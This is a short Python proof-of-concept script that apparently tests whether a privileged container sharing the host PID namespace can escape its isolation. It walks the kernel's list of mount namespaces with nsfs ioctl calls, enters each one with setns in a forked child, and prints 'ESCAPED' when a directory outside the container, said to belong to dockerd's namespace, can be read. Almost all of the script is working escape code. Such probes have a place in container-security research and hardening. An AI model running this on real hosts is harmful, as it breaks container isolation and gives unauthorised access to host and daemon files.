"""In a privileged container with --pid host: every mount namespace that the kernel lists, dockerd's among them?"""

import fcntl
import os

# linux/nsfs.h, since Linux 6.12.
NEXT, PREVIOUS = 0x8010B70B, 0x8010B70C
found = 0
for step in (NEXT, PREVIOUS):
    handle = os.open("/proc/self/ns/mnt", os.O_RDONLY)
    while True:
        try:
            handle = fcntl.ioctl(handle, step)
        except OSError as error:
            print("end of list:", error)
            break
        found += 1
        if os.fork() == 0:
            try:
                os.setns(handle, os.CLONE_NEWNS)
                os.listdir("/private/pipes")
                print("ESCAPED", handle, flush=True)
            except OSError:
                pass
            os._exit(0)
        os.wait()
print("listed", found)
